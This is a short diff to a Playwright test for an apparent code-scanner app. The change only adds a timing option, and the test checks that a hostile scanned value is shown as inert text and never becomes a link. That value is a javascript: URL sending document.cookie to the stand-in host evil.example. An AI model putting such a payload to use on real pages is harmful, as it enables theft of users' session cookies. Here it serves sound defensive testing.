@@ -48,7 +48,7 @@ test('a hostile code is only text; a link is opened after its host was read and 
   site,
 }) => {
   const hostile = `javascript:location='https://evil.example/'+alert(document.cookie)//${site.url}/c/cafe`;
-  const { page, context, close } = await openScanner(site, { text: hostile, allowed: true });
+  const { page, context, close } = await openScanner(site, { text: hostile, allowed: true, framesLate: 150 });
   await expect(page.getByRole('heading', { name: 'Esto dice el código' })).toBeFocused();
   await expect(page.getByText(hostile)).toBeVisible();
   await expect(page.locator('.ion-page:not(.ion-page-hidden) main a')).toHaveCount(0);
